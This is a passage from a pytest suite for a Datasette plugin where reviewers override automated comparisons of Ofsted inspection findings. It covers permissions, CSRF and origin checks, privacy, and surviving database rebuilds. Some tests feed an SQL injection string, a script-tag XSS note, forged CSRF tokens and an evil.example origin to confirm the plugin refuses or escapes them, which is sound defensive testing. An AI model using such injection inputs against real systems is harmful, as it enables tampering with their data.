"""Reviews: a reviewer confirms or changes a call; everyone sees it; it survives a rebuild of ofsted.db.

Real files throughout: Sutton's three text reports ingested by the real `ofsted-ingest`, a real
ofsted_reviews.db, a real Datasette answering through its client with its own CSRF protection:
on 0.65 asgi-csrf's token (the ds_csrftoken cookie and the page's field or the x-csrftoken
header), on 1.0a41 the check of a request's origin (Sec-Fetch-Site, else Origin) that replaced it.
"""

from __future__ import annotations

import copy
import csv
import importlib.util
import inspect
import io
import json
import re
import shutil
import sqlite3
import time
from pathlib import Path

import pytest
import pytest_asyncio
import yaml
from conftest import METADATA, REPORTS, run_ingest
from datasette.app import Datasette
from datasette.plugins import pm

from datasette_ofsted import hookimpl
from datasette_ofsted import reviews as reviews_module
from datasette_ofsted.reviews import (
    MAX_NOTE,
    REVALIDATE_SECONDS,
    apply_reviews,
    create_reviews_database,
    improvement_key,
    insert_review,
    register_reviewed_status,
    register_sql_functions,
    reviews_path_beside,
    verify_chain,
)
from ingest.evaluate import evaluate

# Datasette 1.0a41 checks a write's origin (datasette/csrf.py) where 0.65 checked asgi-csrf's token.
ORIGIN_CHECKED = importlib.util.find_spec("datasette.csrf") is not None
only_with_csrf_tokens = pytest.mark.skipif(ORIGIN_CHECKED, reason="this Datasette hands out no CSRF token")
only_with_origin_checks = pytest.mark.skipif(not ORIGIN_CHECKED, reason="this Datasette checks a CSRF token")
only_with_api_tokens = pytest.mark.skipif(
    not callable(getattr(Datasette, "create_token", None)), reason="this Datasette has no API tokens"
)

# Sutton's reports, in the order the archive lists them: 2010, 2013, 2018.
SUTTON = ["002_ac07fc03e2f7f600.txt", "003_6185718e885c3be8.txt", "000_aacd069290608c33.txt"]
PAIR = "/-/ofsted/compare/sutton-2013-05-13...sutton-2018-06-26"
REVIEWERS = {"id": ["alice", "bob"]}


@pytest.fixture(scope="module")
def sutton_db(tmp_path_factory) -> Path:
    """Sutton's reports ingested by the real command into a fresh ofsted.db."""
    path = tmp_path_factory.mktemp("sutton") / "ofsted.db"
    result = run_ingest(*(str(REPORTS / name) for name in SUTTON), "--db", str(path), "--workers", "1")
    assert result.returncode == 0, result.stderr
    return path


@pytest.fixture
def reviews_db(tmp_path) -> Path:
    """An empty reviews database of this test's own."""
    return create_reviews_database(tmp_path / "ofsted.db")


def metadata(reviewers=REVIEWERS, change=None) -> dict:
    data = copy.deepcopy(yaml.safe_load(METADATA.read_text(encoding="utf-8")))
    if reviewers is not None:
        data.setdefault("plugins", {})["datasette-ofsted"] = {"reviewers": reviewers}
    if change:
        change(data)
    return data


async def serve(ofsted_db: Path, reviews_db: Path, **kwargs) -> Datasette:
    """ofsted.db immutable and ofsted_reviews.db writable, as the README's serve command does."""
    datasette = Datasette([str(reviews_db)], immutables=[str(ofsted_db)], metadata=metadata(**kwargs))
    await datasette.invoke_startup()
    return datasette


@pytest_asyncio.fixture
async def ds(sutton_db, reviews_db):
    return await serve(sutton_db, reviews_db)


def actor_cookie(datasette: Datasette, actor_id: str) -> dict:
    return {"ds_actor": datasette.sign({"a": {"id": actor_id}}, "actor")}


# What a browser says of a request a page of the same site makes (1.0a's check reads it).
SAME_ORIGIN = {"sec-fetch-site": "same-origin"}


async def signed_in(datasette: Datasette, actor_id: str) -> tuple[dict, dict]:
    """Cookies and headers of a signed-in actor who has opened the compare page and posts from it:
    on 0.65 with the CSRF token the page hands a reviewer, on 1.0a as a same-origin request."""
    cookies = actor_cookie(datasette, actor_id)
    page = await datasette.client.get(PAIR, cookies=cookies)
    assert page.status_code == 200
    if ORIGIN_CHECKED:
        return cookies, dict(SAME_ORIGIN)
    token = page.cookies.get("ds_csrftoken")
    assert token, "the compare page hands a reviewer Datasette's CSRF token"
    headers = {"x-csrftoken": token}
    form_token = re.search(r'name="review_token" value="([^"]+)"', page.text)
    if form_token:  # the page's review form, bound to this reviewer (only a reviewer's page has one)
        headers["x-ofsted-review-token"] = form_token.group(1)
    return {**cookies, "ds_csrftoken": token}, headers


async def run_sql(datasette: Datasette, sql: str, **params):
    """Datasette's own SQL page on ofsted.db (1.0a moved it to /ofsted/-/query and redirects there)."""
    return await datasette.client.get(
        "/ofsted.json", params={"sql": sql, "_shape": "array", **params}, follow_redirects=True
    )


async def api_token(datasette: Datasette, actor_id: str) -> str:
    """An API token for an actor, as `datasette create-token` makes it (async from 1.0a41 on)."""
    token = datasette.create_token(actor_id)
    return await token if inspect.isawaitable(token) else token


async def comparison(datasette: Datasette, cookies: dict | None = None) -> dict:
    response = await datasette.client.get(PAIR + ".json", cookies=cookies or {})
    assert response.status_code == 200
    return response.json()


def improvement(data: dict, status: str, side: str = "from") -> dict:
    """The first improvement on `side` of a row the engine called `status`."""
    for row in data["rows"]:
        if row["auto_status"] == status:
            for finding in row[side]:
                if finding["role"] == "improvement":
                    return finding
    raise AssertionError(f"no {status} row with an improvement on the {side} side")


async def item_key_of(datasette, finding_id) -> str | None:
    """The review key the comparison's JSON gives an improvement (None for anything else)."""
    data = (await datasette.client.get(PAIR + ".json")).json()
    for row in data["rows"]:
        for finding in row["from"] + row["to"]:
            if finding["id"] == finding_id and "item_key" in finding:
                return finding["item_key"]
    return None


async def post_review(datasette, cookies, headers, finding_id, status, note="", item_key=None):
    """POST a review as a script does: the improvement's id and the key of the text the reviewer saw."""
    key = item_key
    if key is None and (await datasette.client.get(PAIR + ".json")).status_code == 200:
        key = await item_key_of(datasette, finding_id)
    payload = {"finding_id": finding_id, "item_key": key, "status": status, "note": note}
    return await datasette.client.post(
        PAIR + "/review",
        content=json.dumps(payload).encode("ascii"),  # escaped as JSON escapes (a lone surrogate included)
        cookies=cookies,
        headers={"content-type": "application/json", **headers},
    )


def stored_reviews(path: Path) -> list[tuple]:
    with sqlite3.connect(path) as conn:
        return conn.execute("select finding_id, status, note, actor_id from reviews order by id").fetchall()


# The key of an improvement


def test_the_key_ignores_case_white_space_and_quote_marks_but_not_the_document():
    finding = {"document_id": "sutton-2013-05-13-report", "text": "Ensure that the child\u2019s  plan is  reviewed."}
    same = {"document_id": "sutton-2013-05-13-report", "text": "ensure that the child's plan is reviewed."}
    assert improvement_key(finding) == improvement_key(same)
    assert improvement_key(finding) != improvement_key({**finding, "document_id": "sutton-2018-06-26-report"})
    assert improvement_key(finding) != improvement_key({**finding, "text": "Ensure that the plan is reviewed."})


def test_apply_reviews_recounts_and_leaves_the_engine_result_alone():
    result = {
        "counts": {"recurring": 1, "resolved": 0, "not_revisited": 1, "new": 0},
        "rows": [
            {
                "status": "recurring",
                "from": [{"id": "a", "role": "improvement", "document_id": "x-report", "text": "One."}],
                "to": [],
            },
            {
                "status": "not_revisited",
                "from": [{"id": "b", "role": "improvement", "document_id": "x-report", "text": "Two."}],
                "to": [],
            },
        ],
    }
    before = json.dumps(result, sort_keys=True)
    key = improvement_key({"document_id": "x-report", "text": "Two."})
    review = {"id": 1, "item_key": key, "status": "resolved", "note": "n", "actor_id": "alice", "at": "2026-01-01"}
    out = apply_reviews(result, {key: review})
    assert json.dumps(result, sort_keys=True) == before
    assert out["counts"] == {"recurring": 1, "resolved": 1, "not_revisited": 0, "new": 0}
    assert [r["status"] for r in out["rows"]] == ["recurring", "resolved"]
    assert out["rows"][1]["auto_status"] == "not_revisited"
    assert out["rows"][1]["review"] == {"status": "resolved", "note": "n", "actor": "alice", "at": "2026-01-01"}
    assert out["rows"][0]["review"] is None and out["rows"][0]["auto_status"] == "recurring"


# Storage


def test_ingest_creates_the_reviews_database_beside_ofsted_db_and_a_rerun_keeps_it(sutton_db, tmp_path):
    path = reviews_path_beside(sutton_db)
    assert path.name == "ofsted_reviews.db" and path.is_file()
    with sqlite3.connect(path) as conn:
        conn.execute(
            "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, "
            "note, actor_id, at) values ('sutton', 'a', 'b', 'k', 'from', 'resolved', '', 'alice', 'now')"
        )
    result = run_ingest(str(REPORTS / SUTTON[0]), "--db", str(sutton_db), "--workers", "1")
    assert result.returncode == 0, result.stderr
    with sqlite3.connect(path) as conn:
        assert conn.execute("select count(*) from reviews where item_key = 'k'").fetchone()[0] == 1


def test_reviews_are_append_only(reviews_db):
    with sqlite3.connect(reviews_db) as conn:
        conn.execute(
            "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, "
            "note, actor_id, at) values ('sutton', 'a', 'b', 'k', 'from', 'resolved', '', 'alice', 'now')"
        )
    for sql in ("update reviews set status = 'new'", "delete from reviews"):
        with sqlite3.connect(reviews_db) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
            conn.execute(sql)


# Permission and CSRF


@pytest.mark.asyncio
async def test_a_reviewer_overrides_a_call_and_everyone_sees_it(ds, reviews_db):
    before = await comparison(ds)
    finding = improvement(before, "not_revisited")
    cookies, headers = await signed_in(ds, "alice")
    response = await post_review(ds, cookies, headers, finding["id"], "resolved", "Seen in the 2018 letter")
    assert response.status_code == 200, response.text
    stored = response.json()
    assert stored["status"] == "resolved" and stored["auto_status"] == "not_revisited"
    assert stored["actor"] == "alice" and stored["finding_id"] == finding["id"] and stored["at"]

    after = await comparison(ds)  # an anonymous reader: the status, not who, when or why (test_review_privacy.py)
    row = next(r for r in after["rows"] if any(f["id"] == finding["id"] for f in r["from"]))
    assert row["status"] == "resolved" and row["auto_status"] == "not_revisited"
    assert row["review"]["actor"] is None and row["review"]["note"] is None
    seen = await comparison(ds, actor_cookie(ds, "bob"))  # another reviewer
    row = next(r for r in seen["rows"] if any(f["id"] == finding["id"] for f in r["from"]))
    assert row["review"]["actor"] == "alice" and row["review"]["note"] == "Seen in the 2018 letter"
    assert after["counts"]["resolved"] == before["counts"]["resolved"] + 1
    assert after["counts"]["not_revisited"] == before["counts"]["not_revisited"] - 1
    filtered = (await ds.client.get(PAIR + ".json?status=resolved")).json()
    assert any(r["review"] for r in filtered["rows"])
    assert stored_reviews(reviews_db) == [(finding["id"], "resolved", "Seen in the 2018 letter", "alice")]


@pytest.mark.asyncio
async def test_a_reviewed_row_no_longer_shows_the_engine_s_confidence(ds):
    """The engine's "a clear call" described its own status: once a reviewer changes it, it would describe
    a call the row no longer shows."""
    before = (await ds.client.get(PAIR)).text.count('class="confidence')
    finding = improvement(await comparison(ds), "recurring")
    cookies, headers = await signed_in(ds, "alice")
    response = await post_review(ds, cookies, headers, finding["id"], "resolved", "The letter praises it")
    assert response.status_code == 200, response.text
    assert (await ds.client.get(PAIR)).text.count('class="confidence') == before - 1


@pytest.mark.asyncio
async def test_csv_has_the_engine_call_and_the_reviewer(ds):
    finding = improvement(await comparison(ds), "recurring")
    cookies, headers = await signed_in(ds, "bob")
    assert (await post_review(ds, cookies, headers, finding["id"], "recurring")).status_code == 200
    text = (await ds.client.get(PAIR + ".csv", cookies=actor_cookie(ds, "alice"))).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {"auto_status", "reviewed_by", "reviewed_at"} <= set(rows[0])
    mine = [r for r in rows if r["finding_id"] == finding["id"]]
    assert mine and mine[0]["status"] == mine[0]["auto_status"] == "recurring" and mine[0]["reviewed_by"] == "bob"
    others = [r for r in rows if r["reviewed_by"] == ""]
    assert others and all(r["status"] == r["auto_status"] for r in others)


@pytest.mark.asyncio
async def test_the_page_form_with_its_csrf_field_records_a_review(ds, reviews_db):
    finding = improvement(await comparison(ds), "new", side="to")
    cookies, headers = await signed_in(ds, "alice")
    page = (await ds.client.get(PAIR, cookies=cookies)).text
    field = re.search(r'<input type="hidden" name="csrftoken" value="([^"]+)">', page)
    assert field, "the review form carries Datasette's CSRF field"
    form = dict(
        re.findall(
            r'<input type="hidden" name="(\w+)" value="([^"]*)">',
            page.split(f'id="review-{finding["id"]}"')[1].split("</form>")[0],
        )
    )
    assert form["item_key"] == finding["item_key"], "the form carries the key of the text the reviewer sees"
    response = await ds.client.post(
        PAIR + "/review",
        data={**form, "status": "recurring", "note": "x"},
        cookies=cookies,
        headers={k: v for k, v in headers.items() if k != "x-csrftoken"},
    )
    assert response.status_code == 302 and response.headers["location"].endswith(f"#review-{finding['id']}")
    assert stored_reviews(reviews_db) == [(finding["id"], "recurring", "x", "alice")]


@only_with_csrf_tokens
@pytest.mark.asyncio
async def test_without_the_csrf_token_a_signed_in_reviewer_is_refused(ds, reviews_db):
    finding = improvement(await comparison(ds), "recurring")
    cookies = actor_cookie(ds, "alice")
    response = await post_review(ds, cookies, {}, finding["id"], "resolved")
    assert response.status_code == 403
    wrong = await post_review(
        ds, {**cookies, "ds_csrftoken": "forged"}, {"x-csrftoken": "forged"}, finding["id"], "new"
    )
    assert wrong.status_code == 403
    assert stored_reviews(reviews_db) == []


@pytest.mark.asyncio
async def test_who_may_review(sutton_db, reviews_db):
    finding_id = improvement(await comparison(await serve(sutton_db, reviews_db)), "recurring")["id"]
    # Not among the reviewers, anonymous, or a bearer token on a Datasette without API tokens: 403.
    ds = await serve(sutton_db, reviews_db)
    cookies, headers = await signed_in(ds, "mallory")
    assert (await post_review(ds, cookies, headers, finding_id, "resolved")).status_code == 403
    assert (await post_review(ds, {}, {}, finding_id, "resolved")).status_code == 403
    bearer = {"authorization": "Bearer dstok_not-a-token"}
    assert (await post_review(ds, {}, bearer, finding_id, "resolved")).status_code in (401, 403)
    page = (await ds.client.get(PAIR, cookies=actor_cookie(ds, "mallory"))).text
    assert "Review this call" not in page
    # With no `reviewers` setting nobody may review, the root actor included.
    unset = await serve(sutton_db, reviews_db, reviewers=None)
    for actor in ("alice", "root"):
        cookies, headers = await signed_in(unset, actor)
        assert (await post_review(unset, cookies, headers, finding_id, "resolved")).status_code == 403
    assert stored_reviews(reviews_db) == []


@only_with_origin_checks
@pytest.mark.asyncio
async def test_on_1a_a_cross_site_post_is_refused_and_a_same_site_one_is_taken(ds, reviews_db):
    """1.0a checks where a write comes from: a page of another site cannot post with the reviewer's cookie."""
    finding_id = improvement(await comparison(ds), "recurring")["id"]
    cookies = actor_cookie(ds, "alice")
    for headers in (
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},  # a sibling subdomain is another origin
        {"origin": "http://evil.example"},  # an older browser, without Sec-Fetch-Site
    ):
        response = await post_review(ds, cookies, headers, finding_id, "resolved", "forged")
        assert response.status_code == 403, headers
    assert stored_reviews(reviews_db) == []
    for note, headers in (("from the page", SAME_ORIGIN), ("older browser", {"origin": "http://localhost"})):
        response = await post_review(ds, cookies, headers, finding_id, "resolved", note)
        assert response.status_code == 200, (headers, response.text)
    assert stored_reviews(reviews_db) == [
        (finding_id, "resolved", "from the page", "alice"),
        (finding_id, "resolved", "older browser", "alice"),
    ]


@only_with_api_tokens
@pytest.mark.asyncio
async def test_an_api_token_reviews_for_a_reviewer_and_is_refused_for_anyone_else(ds, reviews_db):
    finding_id = improvement(await comparison(ds), "not_revisited")["id"]
    alice = {"authorization": f"Bearer {await api_token(ds, 'alice')}"}
    mallory = {"authorization": f"Bearer {await api_token(ds, 'mallory')}"}
    assert (await post_review(ds, {}, mallory, finding_id, "resolved", "not mine")).status_code == 403
    response = await post_review(ds, {}, alice, finding_id, "resolved", "by script")
    assert response.status_code == 200, response.text
    assert response.json()["actor"] == "alice" and response.json()["status"] == "resolved"
    # GET never writes, whoever asks.
    for headers in (alice, mallory):
        url = f"{PAIR}/review?finding_id={finding_id}&status=new&note=get"
        assert (await ds.client.get(url, headers=headers)).status_code == 405
    assert stored_reviews(reviews_db) == [(finding_id, "resolved", "by script", "alice")]
    row = next(r for r in (await comparison(ds, actor_cookie(ds, "alice")))["rows"] if r["review"])
    assert row["status"] == "resolved" and row["review"]["actor"] == "alice"


class GrantsCarol:
    """Another permission plugin, granting the action to an actor the setting does not name."""

    __name__ = "grants_carol"  # Datasette lists plugins by their module's name

    @hookimpl
    def permission_allowed(self, actor, action):  # Datasette 0.65
        if action == "ofsted-review" and actor and actor.get("id") == "carol":
            return True
        return None

    @hookimpl
    def permission_resources_sql(self, actor, action):  # Datasette 1.0a
        if action == "ofsted-review" and actor and actor.get("id") == "carol":
            from datasette.permissions import PermissionSQL

            return PermissionSQL.allow(reason="carol, granted by another plugin")
        return None


@pytest.mark.asyncio
async def test_another_permission_plugin_can_grant_the_review_action(sutton_db, reviews_db):
    plugin = GrantsCarol()
    pm.register(plugin, name="grants-carol")
    try:
        ds = await serve(sutton_db, reviews_db, reviewers=None)
        finding_id = improvement(await comparison(ds), "recurring")["id"]
        cookies, headers = await signed_in(ds, "carol")
        assert (await post_review(ds, cookies, headers, finding_id, "resolved")).status_code == 200
    finally:
        pm.unregister(name="grants-carol")


@pytest.mark.asyncio
async def test_bad_reviews_are_refused_with_400(ds, sutton_db, reviews_db):
    data = await comparison(ds)
    finding = improvement(data, "recurring")
    evidence = next(f for r in data["rows"] for f in r["to"] + r["from"] if f["role"] != "improvement")
    with sqlite3.connect(sutton_db) as conn:
        earlier_visit = conn.execute(
            "select id from findings where inspection_id = 'sutton-2010-03-09' and kind = 'improvement' limit 1"
        ).fetchone()[0]
        strength = conn.execute(
            "select id from findings where inspection_id = 'sutton-2018-06-26' and kind != 'improvement' limit 1"
        ).fetchone()[0]
    cookies, headers = await signed_in(ds, "alice")
    for finding_id, status, note in [
        (finding["id"], "fixed", ""),  # not a status
        (finding["id"], None, ""),
        (finding["id"], "resolved", "x" * (MAX_NOTE + 1)),  # a note too long
        (evidence["id"], "resolved", ""),  # evidence, not an improvement
        (strength, "resolved", ""),
        (earlier_visit, "resolved", ""),  # an improvement of another inspection
        ("sutton-2013-05-13-report-999", "resolved", ""),
        ("'; drop table reviews; --", "resolved", ""),
    ]:
        response = await post_review(ds, cookies, headers, finding_id, status, note)
        assert response.status_code == 400, (finding_id, status, response.status_code)
    not_json = await ds.client.post(PAIR + "/review", content=b"status=new", cookies=cookies, headers=headers)
    assert not_json.status_code == 400
    assert stored_reviews(reviews_db) == []


@pytest.mark.asyncio
async def test_get_never_writes(ds, reviews_db):
    finding_id = improvement(await comparison(ds), "recurring")["id"]
    cookies, _ = await signed_in(ds, "alice")
    response = await ds.client.get(f"{PAIR}/review?finding_id={finding_id}&status=resolved", cookies=cookies)
    assert response.status_code == 405
    assert stored_reviews(reviews_db) == []


# Everywhere: the timeline's counts and threads, the canned queries read the reviewed status


def thread_states(data: dict) -> dict[str, list[str]]:
    return {t["id"]: [c["state"] for c in t["cells"]] for t in data["threads"]}


@pytest.mark.asyncio
async def test_the_timeline_counts_and_threads_follow_a_review(ds):
    data = await comparison(ds)
    finding = improvement(data, "not_revisited")
    before = (await ds.client.get("/-/ofsted/sutton.json")).json()
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding["id"], "resolved")).status_code == 200
    after = (await ds.client.get("/-/ofsted/sutton.json")).json()
    for timeline in (before, after):
        assert len(timeline["pairs"]) == 2
    # Every pair's counts on the timeline are the compare page's, as reviewed.
    for pair in after["pairs"]:
        compared = (await ds.client.get(f"/-/ofsted/compare/{pair['from']}...{pair['to']}.json")).json()
        assert pair["counts"] == compared["counts"], pair
    reviewed = next(p for p in after["pairs"] if f"{p['from']}...{p['to']}" in PAIR)
    earlier = next(p for p in before["pairs"] if p["from"] == reviewed["from"])
    assert reviewed["counts"]["resolved"] == earlier["counts"]["resolved"] + 1
    assert reviewed["counts"]["not_revisited"] == earlier["counts"]["not_revisited"] - 1
    html = (await ds.client.get("/-/ofsted/sutton")).text
    item = html[html.index(PAIR) :]
    item = item[: item.index("</li>")]
    assert f'<span class="badge badge-resolved">Resolved {reviewed["counts"]["resolved"]}</span>' in item
    # The threads: the later inspection's cell of the finding's themes now says resolved where it said nothing.
    themes = set(finding["themes"])
    old, new = thread_states(before), thread_states(after)
    changed = {t for t in new if old.get(t) != new[t]}
    assert changed and changed <= themes
    assert all(new[t][-1] == "resolved" and old.get(t, ["not assessed"] * 3)[-1] == "not assessed" for t in changed)


@pytest.mark.asyncio
async def test_canned_queries_and_charts_count_the_reviewed_status(ds):
    data = await comparison(ds)
    finding = improvement(data, "not_revisited")
    earlier, later = PAIR.rsplit("/", 1)[1].split("...")

    async def canned(name: str) -> list[dict]:
        response = await ds.client.get(f"/ofsted/{name}.json?authority=sutton&_shape=array")
        assert response.status_code == 200, response.text
        return response.json()

    assert finding["id"] not in {r["from_finding_id"] for r in await canned("what_recurs")}
    themes_before = {r["theme_id"]: r["recurring_rows"] for r in await canned("recurring_themes")}
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding["id"], "recurring", "raised again")).status_code == 200

    counted = {
        (r["from_inspection_id"], r["to_inspection_id"], r["status"]): r["n"] for r in await canned("status_counts")
    }
    reviewed = (await comparison(ds))["counts"]
    assert {s: counted.get((earlier, later, s), 0) for s in reviewed} == reviewed
    assert finding["id"] in {r["from_finding_id"] for r in await canned("what_recurs")}
    themes_after = {r["theme_id"]: r["recurring_rows"] for r in await canned("recurring_themes")}
    assert sum(themes_after.values()) > sum(themes_before.values())


# History, escaping, privacy


@pytest.mark.asyncio
async def test_history_keeps_every_change_newest_first(ds, reviews_db):
    finding = improvement(await comparison(ds), "not_revisited")
    alice, alice_headers = await signed_in(ds, "alice")
    bob, bob_headers = await signed_in(ds, "bob")
    assert (await post_review(ds, alice, alice_headers, finding["id"], "resolved", "first")).status_code == 200
    assert (await post_review(ds, bob, bob_headers, finding["id"], "not_revisited", "second")).status_code == 200
    reader = actor_cookie(ds, "alice")
    history = (await ds.client.get(f"{PAIR}/reviews.json?finding_id={finding['id']}", cookies=reader)).json()["reviews"]
    assert [(h["actor"], h["status"], h["note"]) for h in history] == [
        ("bob", "not_revisited", "second"),
        ("alice", "resolved", "first"),
    ]
    row = next(r for r in (await comparison(ds, reader))["rows"] if any(f["id"] == finding["id"] for f in r["from"]))
    assert row["status"] == "not_revisited" and row["review"]["actor"] == "bob"
    page = await ds.client.get(PAIR, cookies=reader)
    assert f"reviews?finding_id={finding['id']}" in page.text and "by bob on" in page.text
    assert (await ds.client.get(f"{PAIR}/reviews?finding_id={finding['id']}", cookies=reader)).status_code == 200


@pytest.mark.asyncio
async def test_notes_are_escaped_everywhere(ds):
    finding = improvement(await comparison(ds), "recurring")
    cookies, headers = await signed_in(ds, "alice")
    note = "<script>alert('x')</script>"
    assert (await post_review(ds, cookies, headers, finding["id"], "resolved", note)).status_code == 200
    for url in (PAIR, f"{PAIR}/reviews", f"{PAIR}/reviews?finding_id={finding['id']}"):
        text = (await ds.client.get(url, cookies=cookies)).text
        assert "<script>alert(" not in text and "&lt;script&gt;" in text, url


@pytest.mark.asyncio
async def test_reviews_in_a_private_reviews_database_stay_private(sutton_db, reviews_db):
    writer = await serve(sutton_db, reviews_db)
    finding_id = improvement(await comparison(writer), "recurring")["id"]
    cookies, headers = await signed_in(writer, "alice")
    assert (await post_review(writer, cookies, headers, finding_id, "resolved", "secret")).status_code == 200

    def private(data: dict) -> None:
        data["databases"]["ofsted_reviews"] = {"allow": {"id": "alice"}}

    ds = await serve(sutton_db, reviews_db, change=private)
    hidden = await comparison(ds)
    # The reviewed call is public; who made it, when and why are not.
    [reviewed] = [r for r in hidden["rows"] if r["review"]]
    assert reviewed["status"] == "resolved" and reviewed["auto_status"] == "recurring"
    assert reviewed["review"] == {"status": "resolved", "note": None, "actor": None, "at": None}
    assert all(r["status"] == r["auto_status"] for r in hidden["rows"] if r is not reviewed)
    page = (await ds.client.get(PAIR)).text
    assert "secret" not in page and "by alice" not in page and "by a reviewer" in page
    for url in (
        "/-/ofsted/reviews.json",
        f"{PAIR}/reviews.json",
        "/-/ofsted/reviews/sutton-2013-05-13...sutton-2018-06-26.json",
    ):
        assert (await ds.client.get(url)).status_code == 403, url
    shown = await comparison(ds, actor_cookie(ds, "alice"))
    assert [r["review"]["note"] for r in shown["rows"] if r["review"]] == ["secret"]
    # SQL on ofsted.db gives anyone the status alone: the reviews database is not attached to it.
    sql = (
        "select distinct ofsted_reviewed_status(comparison_row_id, status) as s from issue_links"
        " where side = 'from' and from_finding_id = :id"
    )
    answer = await run_sql(ds, sql, id=finding_id)
    assert answer.json() == [{"s": "resolved"}]
    attached = await run_sql(ds, "select note from ofsted_reviews.reviews")
    assert attached.status_code == 400 and "secret" not in attached.text


@pytest.mark.asyncio
async def test_review_pages_answer_to_the_ofsted_database_permissions(sutton_db, reviews_db):
    def private(data: dict) -> None:
        data["databases"]["ofsted"]["allow"] = False

    ds = await serve(sutton_db, reviews_db, change=private)
    urls = [f"{PAIR}/reviews", f"{PAIR}/reviews.json", "/-/ofsted/reviews", "/-/ofsted/reviews.json"]
    for url in [*urls, "/-/ofsted/reviews/sutton-2013-05-13...sutton-2018-06-26.json"]:
        assert (await ds.client.get(url)).status_code == 403, url
    # A named reviewer who may not see ofsted.db may not review it either.
    cookies = actor_cookie(ds, "alice")
    page = await ds.client.get("/-/ofsted/reviews", cookies=cookies)
    assert page.status_code == 403
    response = await post_review(ds, {}, {}, "sutton-2013-05-13-report-004", "resolved")
    assert response.status_code == 403 and stored_reviews(reviews_db) == []


# Agreement and the gold export


@pytest.mark.asyncio
async def test_agreement_counts_confirmed_and_changed_calls(ds):
    data = await comparison(ds)
    confirmed, changed = improvement(data, "recurring"), improvement(data, "not_revisited")
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, confirmed["id"], "recurring")).status_code == 200
    assert (await post_review(ds, cookies, headers, changed["id"], "resolved")).status_code == 200
    assert (await post_review(ds, cookies, headers, changed["id"], "recurring")).status_code == 200  # counted once
    summary = (await ds.client.get("/-/ofsted/reviews.json", cookies=cookies)).json()
    assert (summary["reviewed"], summary["confirmed"], summary["changed"]) == (2, 1, 1)
    by_status = {s["auto_status"]: s for s in summary["by_status"]}
    assert by_status["recurring"]["confirmed"] == 1 and by_status["not_revisited"]["changed"] == 1
    assert by_status["not_revisited"]["became"] == {"recurring": 1}
    assert summary["by_theme"] and all(t["reviewed"] == t["confirmed"] + t["changed"] for t in summary["by_theme"])
    assert summary["pairs"][0]["reviewed"] == 2
    page = await ds.client.get("/-/ofsted/reviews", cookies=cookies)
    assert page.status_code == 200 and "2 calls reviewed: 1 confirmed, 1 changed" in page.text


@pytest.mark.asyncio
async def test_exported_reviews_score_the_engine_with_the_evaluation(ds, tmp_path):
    data = await comparison(ds)
    confirmed, changed = improvement(data, "recurring"), improvement(data, "not_revisited")
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, confirmed["id"], "recurring", "right")).status_code == 200
    assert (await post_review(ds, cookies, headers, changed["id"], "resolved", "wrong")).status_code == 200
    gold = (await ds.client.get("/-/ofsted/reviews/sutton-2013-05-13...sutton-2018-06-26.json", cookies=cookies)).json()
    assert gold["from"]["source"] == SUTTON[1] and gold["to"]["source"] == SUTTON[2]
    assert [i["status"] for i in gold["from_issues"]] == ["recurring", "resolved"] and gold["to_issues"] == []
    folder = tmp_path / "gold"
    folder.mkdir()
    (folder / "sutton_2013-05-13_2018-06-26.json").write_text(json.dumps(gold), encoding="utf-8")
    [score] = evaluate(folder, REPORTS)
    assert (score.right, score.total) == (1, 2), score.misses


# Surviving a rebuild


@pytest.mark.asyncio
async def test_reviews_survive_a_rebuild_of_ofsted_db_from_scratch(ds, reviews_db, tmp_path):
    finding = improvement(await comparison(ds), "not_revisited")
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding["id"], "resolved", "kept")).status_code == 200

    rebuilt = tmp_path / "rebuilt" / "ofsted.db"
    # The same reports, in another order, by the real command into a new file.
    result = run_ingest(*(str(REPORTS / name) for name in reversed(SUTTON)), "--db", str(rebuilt), "--workers", "1")
    assert result.returncode == 0, result.stderr
    served = await serve(rebuilt, reviews_db)
    row = next(r for r in (await comparison(served, actor_cookie(served, "alice")))["rows"] if r["review"])
    assert row["status"] == "resolved" and row["auto_status"] == "not_revisited" and row["review"]["note"] == "kept"
    assert [f["text"] for f in row["from"] if f["role"] == "improvement"] == [finding["text"]]


# SQL: the key, and the reviewed status of stored comparison rows, in Datasette's SQL


@pytest.mark.asyncio
async def test_sql_gets_the_review_key_and_the_reviewed_status(ds, reviews_db):
    data = await comparison(ds)
    finding = improvement(data, "not_revisited")
    sql = "select ofsted_review_key(document_id, text) as k from findings where id = :id"
    response = await run_sql(ds, sql, id=finding["id"])
    assert response.json() == [{"k": improvement_key(finding)}]

    status_sql = (
        "select distinct status, ofsted_reviewed_status(comparison_row_id, status) as reviewed from issue_links"
        " where side = 'from' and from_finding_id = :id"
    )

    async def statuses() -> list[dict]:
        answer = await run_sql(ds, status_sql, id=finding["id"])
        return answer.json()

    assert await statuses() == [{"status": "not_revisited", "reviewed": "not_revisited"}]
    cookies, headers = await signed_in(ds, "alice")
    assert (await post_review(ds, cookies, headers, finding["id"], "resolved")).status_code == 200
    assert await statuses() == [{"status": "not_revisited", "reviewed": "resolved"}]  # not a stale answer
    assert (await post_review(ds, cookies, headers, finding["id"], "recurring")).status_code == 200
    assert await statuses() == [{"status": "not_revisited", "reviewed": "recurring"}]
    # Not a row id, or no reviews file: the status given comes back.
    plain = await run_sql(ds, "select ofsted_reviewed_status('x', 'new') as s")
    assert plain.json() == [{"s": "new"}]


def test_the_reviewed_status_function_on_a_plain_connection(sutton_db, reviews_db):
    """On a connection opened as Datasette opens an immutable file, outside Datasette: one pair's rows read once."""
    conn = sqlite3.connect(f"{sutton_db.resolve().as_uri()}?immutable=1", uri=True)
    try:
        register_sql_functions(conn)
        lookup = register_reviewed_status(conn, reviews_db)
        row_id, status, finding_id = conn.execute(
            "select comparison_row_id, status, from_finding_id from issue_links where side = 'from' "
            "and status = 'recurring' limit 1"
        ).fetchone()
        document_id, text = conn.execute("select document_id, text from findings where id = ?", [finding_id]).fetchone()
        earlier, later = row_id.split(":")[0].split("...")
        query = "select ofsted_reviewed_status(?, ?)"
